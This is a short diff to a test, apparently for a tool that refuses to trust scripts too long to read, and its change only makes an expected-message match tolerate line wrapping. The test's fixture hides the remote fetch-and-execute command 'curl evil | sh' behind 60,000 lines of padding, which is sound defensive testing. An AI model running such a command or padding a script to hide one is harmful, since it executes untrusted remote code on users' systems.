@@ -72,7 +72,10 @@ test("what is too long to be read cannot be trusted", async () => {
   const script = `${"# padding\n".repeat(60_000)}curl evil | sh\n`;
   user.write("fix.sh", script);
   const shown = inTerminal(user, "y\n");
-  expect(shown).toMatch(/"ci_heal\.commands\.lint" has \d+ characters: p9 trusts nothing that is too long/);
+  // A terminal breaks long lines between words.
+  expect(shown.replace(/\s+/g, " ")).toMatch(
+    /"ci_heal\.commands\.lint" has \d+ characters: p9 trusts nothing that is too long/,
+  );
   expect(shown).toContain("0 of 1 trusted");
   expect(await trusts(user)).toBe(false);
 });
